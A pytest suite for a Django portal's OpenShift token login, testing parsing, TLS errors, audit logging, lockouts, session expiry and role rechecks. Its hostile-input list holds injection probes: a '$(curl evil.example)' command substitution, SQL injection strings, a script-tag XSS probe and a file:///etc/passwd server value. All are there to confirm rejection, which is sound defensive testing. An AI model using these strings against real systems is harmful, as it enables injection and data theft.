"""OpenShift token login over TLS: identity and access reviews from a real
kube-apiserver behind the stand-in API (``real_identities``), or from the
stand-in's own routes where a test revokes a token or changes groups
mid-test (``openshift_identities``)."""

from __future__ import annotations

import logging

import pytest
from django.contrib.sessions.models import Session
from django.db import connection

from hcapadmin.accounts.openshift import LoginInputError, parse_login_input, same_server
from hcapadmin.audit.models import AuditEvent
from tests.harness.kubeapi import kube_api, openshift_real, real_identities  # noqa: F401  (fixtures)
from tests.harness.openshift import status_body


def events(action=None):
    qs = AuditEvent.objects.order_by("id")
    return list(qs.filter(action=action) if action else qs)


# --- parsing (no network) --------------------------------------------------------------
def test_parse_bare_token_and_login_command():
    assert parse_login_input("  sha256~abc_DEF-123  ").token == "sha256~abc_DEF-123"
    parsed = parse_login_input("oc login --token=sha256~abc --server=https://api.c.example:6443")
    assert (parsed.token, parsed.server) == ("sha256~abc", "https://api.c.example:6443")
    parsed = parse_login_input("oc login --token sha256~abc --server https://api.c.example:6443")
    assert (parsed.token, parsed.server) == ("sha256~abc", "https://api.c.example:6443")
    parsed = parse_login_input("oc login https://api.c.example:6443 --token=sha256~abc")
    assert parsed.server == "https://api.c.example:6443"
    assert parse_login_input("Bearer sha256~abc").token == "sha256~abc"
    assert same_server("https://API.c.example:443/", "https://api.c.example")
    assert not same_server("https://api.c.example:6443", "https://api.c.example:6444")


@pytest.mark.parametrize("text,fragment", [
    ("", "Paste your OpenShift token"),
    ("x" * 9000, "too long"),
    ("sha256~tökén", "never appear"),
    ("' OR 1=1 --", "unexpected characters"),
    ("oc login --server=https://a:6443", "no --token"),
    ("oc rsh mypod", "Only an 'oc login'"),
    ("oc login --token='sha256~abc", "unbalanced"),
    ("oc login --token", "has no value"),
])
def test_parse_refuses_bad_input(text, fragment):
    with pytest.raises(LoginInputError) as err:
        parse_login_input(text)
    assert fragment in str(err.value)


# --- login flow ---------------------------------------------------------------------
@pytest.mark.django_db
def test_login_page_says_which_logins_are_active(client, settings, openshift_identities):
    page = client.get("/login/").content.decode()
    assert "Two kinds of login are active" in page and 'name="token"' in page and 'name="username"' in page
    settings.LOCAL_ACCOUNTS = False
    page = client.get("/login/").content.decode()
    assert "OpenShift login is active" in page and 'name="username"' not in page
    settings.OPENSHIFT_API_URL = None
    settings.LOCAL_ACCOUNTS = True
    page = client.get("/login/").content.decode()
    assert "Local accounts are enabled" in page and 'name="token"' not in page


@pytest.mark.django_db
def test_token_login_sets_role_and_audits(client, real_identities, standin):
    token = real_identities.ADMIN
    response = client.post("/login/", {"token": token, "next": "/"})
    assert response.status_code == 302 and response["Location"] == "/"
    calls = real_identities.calls()
    assert len(calls) == 1 and calls[0].bearer == token and calls[0].method == "POST"
    assert calls[0].json["kind"] == "SelfSubjectReview"
    page = client.get("/")
    assert page.status_code == 200
    assert b'data-testid="user-roles">admin<' in page.content and b"alice" in page.content
    (ok,) = events("login.success")
    assert ok.actor == "alice" and ok.details == {"method": "token", "roles": ["admin"]}
    assert "hcap-admins" in ok.actor_groups


@pytest.mark.django_db
def test_login_command_for_configured_server(client, real_identities, standin):
    command = f"oc login --token={real_identities.AUDITOR} --server={standin.url}"
    response = client.post("/login/", {"token": command})
    assert response.status_code == 302
    assert b"auditor" in client.get("/").content


@pytest.mark.django_db
def test_other_server_is_refused_before_anything_is_sent(client, openshift_identities, standin):
    command = f"oc login --token={openshift_identities.ADMIN} --server=https://api.evil.example:6443"
    response = client.post("/login/", {"token": command})
    assert response.status_code == 400
    assert b"only accepts tokens for" in response.content and b"Nothing was sent" in response.content
    assert standin.requests == []  # the token went nowhere
    (failure,) = events("login.failure")
    assert failure.details["reason"] == "other_server"
    assert failure.details["server"] == "https://api.evil.example:6443"
    assert openshift_identities.ADMIN not in str(failure.details)


@pytest.mark.django_db
def test_fallback_to_users_tilde_when_selfsubjectreview_is_not_served(client, real_identities, standin):
    # an older cluster: no SelfSubjectReview; users/~ answers from the real server's identity
    standin.route("POST", r"/apis/authentication.k8s.io/v1/selfsubjectreviews",
                  lambda req: (404, status_body(404, "the server could not find the requested resource", "NotFound")))
    response = client.post("/login/", {"token": real_identities.VIEWER})
    assert response.status_code == 302
    paths = [r.path for r in standin.requests]
    assert paths == ["/apis/authentication.k8s.io/v1/selfsubjectreviews", "/apis/user.openshift.io/v1/users/~"]
    assert b"vic" in client.get("/").content


@pytest.mark.django_db
def test_errors_are_told_apart(client, settings, real_identities, standin):
    # 401: bad or expired token
    response = client.post("/login/", {"token": "sha256~expired-token"})
    assert response.status_code == 401 and b"wrong, expired or revoked" in response.content
    # 403: the API refuses
    standin.route("POST", r"/apis/authentication.k8s.io/v1/selfsubjectreviews",
                  lambda req: (403, status_body(403, "forbidden", "Forbidden")))
    response = client.post("/login/", {"token": real_identities.ADMIN})
    assert response.status_code == 403 and b"403 Forbidden" in response.content
    # TLS failure: the configured CA does not match the server's certificate
    settings.OPENSHIFT_CA_FILE = None
    response = client.post("/login/", {"token": real_identities.ADMIN})
    assert response.status_code == 503 and b"TLS certificate could not be verified" in response.content
    # unreachable
    from devtools.services import free_port

    settings.OPENSHIFT_CA_FILE = str(standin.ca_file)
    settings.OPENSHIFT_API_URL = f"https://127.0.0.1:{free_port()}"
    response = client.post("/login/", {"token": real_identities.ADMIN})
    assert response.status_code == 503 and b"cannot be reached" in response.content
    reasons = [e.details["reason"] for e in events("login.failure")]
    assert reasons == ["token_rejected", "api_forbidden", "api_unavailable", "api_unavailable"]


@pytest.mark.django_db
def test_user_without_role_is_refused_clearly(client, real_identities):
    response = client.post("/login/", {"token": real_identities.NOROLE})
    assert response.status_code == 403
    assert b"OpenShift knows you as nora, but none of your groups grants a role" in response.content
    assert client.get("/").status_code == 302  # not logged in
    (failure,) = events("login.failure")
    assert failure.actor == "nora" and failure.outcome == "denied" and failure.details["reason"] == "no_role"


HOSTILE = [
    "",
    "   ",
    "A" * 100_000,
    "sha256~ñoñ-ascii-тест",
    "'; DROP TABLE audit_auditevent; --",
    "<script>alert(1)</script>",
    "sha256~abc\x00def",
    "oc login --token=sha256~abc --server=https://api.evil.example:6443",
    "oc login --token=sha256~abc --server=not a url",
    "oc login --token='sha256~abc",
    "$(curl evil.example)",
    "oc login --token=sha256~abc --server=file:///etc/passwd",
]


@pytest.mark.django_db
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_login_input(client, openshift_identities, standin, text):
    before = AuditEvent.objects.count()
    response = client.post("/login/", {"token": text})
    assert 400 <= response.status_code < 500
    assert b'role="alert"' in response.content
    assert standin.requests == []  # nothing this malformed is sent to the API
    after = events()[before:]
    assert [e.action for e in after] == ["login.failure"]
    assert after[0].details["reason"] in ("bad_input", "other_server")
    if len(text) > 20:
        assert text.encode() not in response.content


@pytest.mark.django_db
def test_hostile_input_on_local_form(client, demo_users):
    for data in ({"username": "", "password": ""}, {"username": "x" * 10_000, "password": "y"},
                 {"username": "admin\x00", "password": "pw"}, {"username": "admin' --", "password": "' OR '1'='1"}):
        response = client.post("/login/", data)
        assert response.status_code in (400, 401), data


@pytest.mark.django_db
def test_token_never_stored_logged_or_shown(client, real_identities, caplog):
    caplog.set_level(logging.DEBUG)
    token = real_identities.ADMIN
    response = client.post("/login/", {"token": f"oc login --token={token} --server={real_identities.standin.url}"})
    assert response.status_code == 302
    page = client.get("/")
    failed = client.post("/login/", {"token": "sha256~not-a-valid-token-zzz"})
    assert failed.status_code == 401
    for r in (page, failed):
        assert token.encode() not in r.content and b"not-a-valid-token-zzz" not in r.content
    assert token not in caplog.text and "not-a-valid-token-zzz" not in caplog.text
    # every row of every table in the portal database, as text
    with connection.cursor() as cur:
        cur.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'")
        tables = [t for (t,) in cur.fetchall()]
        assert "django_session" in tables and "axes_accessattempt" in tables
        dump = []
        for table in tables:
            cur.execute(f'SELECT t::text FROM "{table}" t')
            dump.extend(row for (row,) in cur.fetchall())
    dump = "\n".join(dump)
    assert "alice" in dump  # the dump does hold the login
    assert token not in dump and "not-a-valid-token-zzz" not in dump
    assert token.split("~")[1] not in dump
    # decoded session data: only the Fernet ciphertext
    decoded = [s.get_decoded() for s in Session.objects.all()]
    assert any("hcap_token" in d for d in decoded)
    assert all(token not in repr(d) for d in decoded)
    from hcapadmin.accounts.auth import decrypt_token

    blob = next(d["hcap_token"] for d in decoded if "hcap_token" in d)
    assert decrypt_token(blob) == token


@pytest.mark.django_db
def test_logout_ends_token_session(client, real_identities):
    client.post("/login/", {"token": real_identities.ADMIN})
    assert Session.objects.count() == 1
    response = client.post("/logout/")
    assert response.status_code == 302 and response["Location"] == "/login/"
    assert all("hcap_token" not in s.get_decoded() for s in Session.objects.all())
    assert client.get("/").status_code == 302
    (logout,) = events("logout")
    assert logout.actor == "alice" and logout.details == {"method": "openshift"}


@pytest.mark.django_db
def test_idle_session_expires_and_is_audited(client, settings, real_identities):
    settings.SESSION_IDLE_SECONDS = 60
    client.post("/login/", {"token": real_identities.VIEWER})
    assert client.get("/").status_code == 200
    session = client.session
    session["hcap_last_seen"] -= 61
    session.save()
    response = client.get("/")
    assert response.status_code == 302 and response["Location"].startswith("/login/")
    (expired,) = events("session.expired")
    assert expired.actor == "vic" and expired.details == {"reason": "idle"}
    assert b"period of inactivity" in client.get("/login/").content


@pytest.mark.django_db
def test_local_session_idles_out_too(client, settings, client_as):
    settings.SESSION_IDLE_SECONDS = 60
    c = client_as("viewer")
    assert c.get("/").status_code == 200
    session = c.session
    session["hcap_last_seen"] -= 120
    session.save()
    assert c.get("/").status_code == 302
    assert events("session.expired")[0].actor == "viewer"


@pytest.mark.django_db
def test_api_401_ends_session_on_next_state_change(client, settings, openshift_identities, standin):
    settings.ROLE_RECHECK_SECONDS = 0
    client.post("/login/", {"token": openshift_identities.ADMIN})
    del openshift_identities.tokens[openshift_identities.ADMIN]  # revoked
    client.post("/audit/")  # any state-changing request
    (expired,) = events("session.expired")
    assert expired.actor == "alice" and expired.details == {"reason": "token_rejected"}
    assert client.get("/").status_code == 302
    assert b"no longer accepts your token" in client.get("/login/").content


@pytest.mark.django_db
def test_roles_rechecked_before_state_change(client, settings, openshift_identities):
    settings.ROLE_RECHECK_SECONDS = 0
    client.post("/login/", {"token": openshift_identities.ADMIN})
    n = len(openshift_identities.calls())
    client.get("/")
    assert len(openshift_identities.calls()) == n  # reads use the login-time review
    openshift_identities.tokens[openshift_identities.ADMIN] = ("alice", ["hcap-viewers"])
    client.post("/audit/")
    assert len(openshift_identities.calls()) == n + 1
    assert b'data-testid="user-roles">viewer<' in client.get("/").content


@pytest.mark.django_db
def test_state_change_refused_when_roles_cannot_be_confirmed(client, settings, openshift_identities, standin):
    settings.ROLE_RECHECK_SECONDS = 0
    client.post("/login/", {"token": openshift_identities.ADMIN})
    standin.route("POST", r"/apis/authentication.k8s.io/v1/selfsubjectreviews",
                  lambda req: (403, status_body(403, "forbidden", "Forbidden")))
    response = client.post("/audit/")
    assert response.status_code == 503 and b"could not be confirmed" in response.content
    assert client.get("/").status_code == 200  # still logged in for reading


@pytest.mark.django_db
def test_access_reviews_confirm_roles(client, settings, openshift_identities, standin):
    settings.ROLE_ACCESS_REVIEW = True
    settings.OPENSHIFT_NAMESPACE = "hcap-prod"
    seen = []

    def ssar(req):
        attrs = req.json["spec"]["resourceAttributes"]
        seen.append(attrs)
        allowed = attrs["verb"] == "get"  # may look, may not scale the server
        return 201, {"kind": "SelfSubjectAccessReview", "status": {"allowed": allowed}}

    standin.route("POST", r"/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", ssar)
    openshift_identities.tokens[openshift_identities.ADMIN] = ("alice", ["hcap-admins", "hcap-viewers"])
    assert client.post("/login/", {"token": openshift_identities.ADMIN}).status_code == 302
    assert b'data-testid="user-roles">viewer<' in client.get("/").content
    assert {"namespace": "hcap-prod", "verb": "patch", "resource": "deploymentconfigs", "group": "apps.openshift.io",
            "subresource": "scale", "name": "hcap-server"} in seen
    # an admin-only member who fails the review has no role at all
    client.post("/logout/")
    openshift_identities.tokens[openshift_identities.ADMIN] = ("alice", ["hcap-admins"])
    response = client.post("/login/", {"token": openshift_identities.ADMIN})
    assert response.status_code == 403 and b"none of your groups grants a role" in response.content


@pytest.mark.django_db
def test_access_reviews_confirm_roles_on_the_real_server(client, settings, real_identities):
    """The real server's RBAC answers the access reviews: alice (hcap-admins) may
    scale the server's DeploymentConfig in the namespace, vic (hcap-viewers) may get
    pods; once the RoleBinding that lets hcap-admins scale is gone, alice has no role."""
    import time

    from hcapadmin.accounts.openshift import OpenShiftAuth

    settings.ROLE_ACCESS_REVIEW = True
    real = real_identities.real
    assert client.post("/login/", {"token": real_identities.ADMIN}).status_code == 302
    assert b'data-testid="user-roles">admin<' in client.get("/").content
    client.post("/logout/")
    assert client.post("/login/", {"token": real_identities.VIEWER}).status_code == 302
    assert b'data-testid="user-roles">viewer<' in client.get("/").content
    client.post("/logout/")
    real.kube.admin("DELETE", f"/apis/rbac.authorization.k8s.io/v1/namespaces/{real.namespace}"
                              "/rolebindings/hcap-admins-scale")
    auth = OpenShiftAuth(real.url, ca_file=real.ca_file)
    deadline = time.monotonic() + 60  # the server's RBAC cache follows the deletion by itself
    while auth.can(real_identities.ADMIN, namespace=real.namespace, verb="patch", group="apps.openshift.io",
                   resource="deploymentconfigs", subresource="scale", name="hcap-server"):
        assert time.monotonic() < deadline, "the RoleBinding's deletion never reached the authorizer"
        time.sleep(0.05)
    response = client.post("/login/", {"token": real_identities.ADMIN})
    assert response.status_code == 403 and b"none of your groups grants a role" in response.content


@pytest.mark.django_db
def test_token_failures_lock_out_the_client_address(client, settings, real_identities, standin):
    settings.AXES_FAILURE_LIMIT = 3
    for i in range(3):
        response = client.post("/login/", {"token": f"sha256~wrong-{i}"}, REMOTE_ADDR="10.9.9.9")
    assert response.status_code == 429 and b"Too many failed attempts" in response.content
    sent = len(standin.requests)
    response = client.post("/login/", {"token": real_identities.ADMIN}, REMOTE_ADDR="10.9.9.9")
    assert response.status_code == 429
    assert len(standin.requests) == sent  # a locked-out client's token is not even checked
    lockouts = events("login.lockout")
    assert len(lockouts) == 2 and lockouts[0].source_ip == "10.9.9.9"
    # another client address is not affected
    response = client.post("/login/", {"token": real_identities.ADMIN}, REMOTE_ADDR="10.9.9.10")
    assert response.status_code == 302


@pytest.mark.django_db
def test_local_account_lockout_per_account_across_addresses(client, settings, demo_users):
    settings.AXES_FAILURE_LIMIT = 3
    for i in range(3):
        response = client.post("/login/", {"username": "admin", "password": "nope"}, REMOTE_ADDR=f"10.0.0.{i + 1}")
    assert response.status_code == 429
    response = client.post("/login/", {"username": "admin", "password": "pw-demo"}, REMOTE_ADDR="10.0.0.99")
    assert response.status_code == 429  # right password, but the account is locked
    assert {e.actor for e in events("login.lockout")} == {"admin"}
    assert client.post("/login/", {"username": "viewer", "password": "pw-demo"},
                       REMOTE_ADDR="10.0.0.98").status_code == 302


@pytest.mark.django_db
def test_request_body_too_big_is_400_not_500(client, openshift_identities, standin):
    response = client.post("/login/", {"token": "A" * 3_000_000})
    assert response.status_code == 400
    assert standin.requests == []


@pytest.mark.django_db
def test_switching_from_token_to_local_login_drops_the_token(client, real_identities, demo_users):
    client.post("/login/", {"token": real_identities.ADMIN})
    response = client.post("/login/", {"username": "auditor", "password": "pw-demo"})
    assert response.status_code == 302
    assert b'data-testid="user-name">auditor<' in client.get("/").content
    assert all("hcap_token" not in s.get_decoded() for s in Session.objects.all())


@pytest.mark.django_db
def test_login_marks_token_and_password_sensitive(client, openshift_identities, demo_users):
    """Django's error reports (and anything using its filter) hide them."""
    from django.views.debug import SafeExceptionReporterFilter

    hidden = SafeExceptionReporterFilter.cleansed_substitute
    response = client.post("/login/", {"token": "sha256~not-a-valid-token-zzz"})
    shown = SafeExceptionReporterFilter().get_post_parameters(response.wsgi_request)
    assert shown["token"] == hidden
    response = client.post("/login/", {"username": "admin", "password": "wrong-pw-zzz"})
    shown = SafeExceptionReporterFilter().get_post_parameters(response.wsgi_request)
    assert shown["password"] == hidden and shown["username"] == "admin"


def test_login_client_refuses_a_plain_http_api():
    from hcapadmin.accounts.openshift import OpenShiftAuth

    with pytest.raises(ValueError, match="https"):
        OpenShiftAuth("http://api.cluster.example:6443")


# --- exports re-check a token session's roles ----------------------------------------
def test_every_export_url_is_marked():
    from django.urls import get_resolver

    from hcapadmin.accounts.middleware import EXPORT_VIEWS

    names = {name for name in get_resolver().reverse_dict if isinstance(name, str) and "export" in name}
    assert names and names <= EXPORT_VIEWS


@pytest.mark.django_db
def test_export_rechecks_roles_like_a_state_change(client, settings, openshift_identities):
    settings.ROLE_RECHECK_SECONDS = 0
    client.post("/login/", {"token": openshift_identities.AUDITOR})
    n = len(openshift_identities.calls())
    assert client.get("/audit/").status_code == 200
    assert len(openshift_identities.calls()) == n  # a plain read uses the login-time review
    response = client.get("/audit/export.csv")
    assert response.status_code == 200 and response["Content-Disposition"].endswith('.csv"')
    assert len(openshift_identities.calls()) == n + 1
    openshift_identities.tokens[openshift_identities.AUDITOR] = ("olga", ["hcap-viewers"])  # auditor role removed
    assert client.get("/audit/export.json").status_code == 403
    assert len(openshift_identities.calls()) == n + 2
    assert b'data-testid="user-roles">viewer<' in client.get("/").content


@pytest.mark.django_db
def test_export_refused_while_openshift_cannot_be_reached(client, settings, real_identities):
    from devtools.services import free_port

    settings.ROLE_RECHECK_SECONDS = 0
    client.post("/login/", {"token": real_identities.ADMIN})
    exports_before = AuditEvent.objects.filter(action__in=("logs.export", "audit.export")).count()
    settings.OPENSHIFT_API_URL = f"https://127.0.0.1:{free_port()}"  # nobody answers there
    response = client.get("/logs/export?format=csv")
    assert response.status_code == 503
    assert b"Exports need your roles confirmed with OpenShift" in response.content
    assert b"nothing was exported" in response.content
    assert "Content-Disposition" not in response
    assert AuditEvent.objects.filter(action__in=("logs.export", "audit.export")).count() == exports_before
    assert client.get("/").status_code == 200  # plain reads keep the last review's roles


@pytest.mark.django_db
def test_export_with_a_revoked_token_ends_the_session(client, settings, openshift_identities):
    settings.ROLE_RECHECK_SECONDS = 0
    client.post("/login/", {"token": openshift_identities.AUDITOR})
    del openshift_identities.tokens[openshift_identities.AUDITOR]
    response = client.get("/audit/export.csv")
    assert response.status_code == 302 and response["Location"].startswith("/login/")
    (expired,) = events("session.expired")
    assert expired.actor == "olga" and expired.details == {"reason": "token_rejected"}
    assert not events("audit.export")


@pytest.mark.django_db
def test_local_account_exports_need_no_openshift(client_as, settings):
    settings.ROLE_RECHECK_SECONDS = 0
    settings.OPENSHIFT_API_URL = None
    assert client_as("auditor").get("/audit/export.csv").status_code == 200
